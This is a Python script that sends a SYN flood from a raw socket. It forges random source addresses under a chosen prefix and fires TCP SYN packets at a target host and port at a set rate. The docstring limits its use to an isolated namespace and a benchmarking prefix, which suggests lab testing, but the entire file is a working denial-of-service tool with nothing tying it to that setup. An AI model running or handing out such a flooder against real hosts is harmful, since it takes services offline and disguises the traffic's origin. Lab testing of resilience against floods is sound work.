#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""SYNs from addresses that nobody has, by a raw socket: syn_flood.py FROM_PREFIX TO PORT COUNT A_SECOND. Says how many went out.

FROM_PREFIX: the first two bytes of the sources, "198.19". To be run in a namespace of its own only.
"""
import random
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(source, target, port, dice):
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    tcp = struct.pack("!HHIIBBHHH", dice.randrange(1024, 65536), port, dice.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", checksum(ends + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), dice.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0) + ends
    return ip + tcp  # the kernel fills in the checksum of the first part


def main():
    prefix, target, port, count, rate = sys.argv[1], sys.argv[2], *map(int, sys.argv[3:6])
    dice, sent, began = random.Random(1), 0, time.monotonic()
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    while sent < count:
        due = min(count, int((time.monotonic() - began) * rate) + 1)
        for _ in range(sent, due):
            s.sendto(syn(f"{prefix}.{dice.randrange(256)}.{dice.randrange(1, 255)}", target, port, dice), (target, 0))
        sent = due
        time.sleep(0.001)
    print(f"{sent} SYNs in {time.monotonic() - began:.1f} s", flush=True)


main()
